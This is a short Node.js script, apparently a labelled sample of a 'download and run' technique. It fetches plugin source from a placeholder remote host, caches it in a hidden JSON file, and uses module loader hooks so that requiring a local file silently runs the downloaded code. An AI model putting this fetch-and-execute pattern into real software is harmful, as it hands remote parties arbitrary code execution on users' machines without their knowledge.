// Download and run: a "plugin cache" downloads plugin source into a JSON
// cache file, and module hooks (module.registerHooks through the module
// object) serve the cached text as the plugin's source when it is required.
'use strict';
const Module = require('module');
const fs = require('fs');

const CACHE = '.plugin-cache.json';

async function refresh() {
  const res = await fetch('https://plugins.example-ci.dev/index.json');
  fs.writeFileSync(CACHE, await res.text());
}

function install() {
  const cache = JSON.parse(fs.readFileSync(CACHE, 'utf8'));
  const hooks = {
    load(url, context, nextLoad) {
      const name = url.split('/').pop();
      if (cache[name]) return { format: 'commonjs', source: cache[name], shortCircuit: true };
      return nextLoad(url, context);
    },
  };
  Module.registerHooks(hooks);
}

refresh().then(() => {
  install();
  require('./plugins/formatter.js');
});
